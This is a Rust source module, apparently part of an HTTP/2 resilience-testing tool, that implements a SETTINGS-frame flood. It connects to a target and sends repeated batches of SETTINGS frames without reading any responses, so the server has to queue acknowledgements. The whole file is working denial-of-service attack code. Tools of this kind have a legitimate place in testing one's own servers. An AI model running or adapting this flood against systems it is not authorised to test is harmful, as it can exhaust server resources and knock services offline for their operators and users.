//! SETTINGS without end: each must be acknowledged, so a peer that does not read makes the edge queue answers.

use super::Outcome;
use super::frames::{Peer, SETTINGS, frame};
use crate::Target;
use anyhow::Result;
use std::time::Duration;

/// Sends so many SETTINGS frames, reading nothing meanwhile.
pub async fn run(target: &Target, frames: u32) -> Result<Outcome> {
    let mut peer = Peer::connect(target, &[]).await?;
    let batch = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(100);
    for _ in 0..frames / 100 {
        if peer.send(&batch).await.is_err() {
            break;
        }
    }
    peer.end(Duration::from_secs(5)).await
}
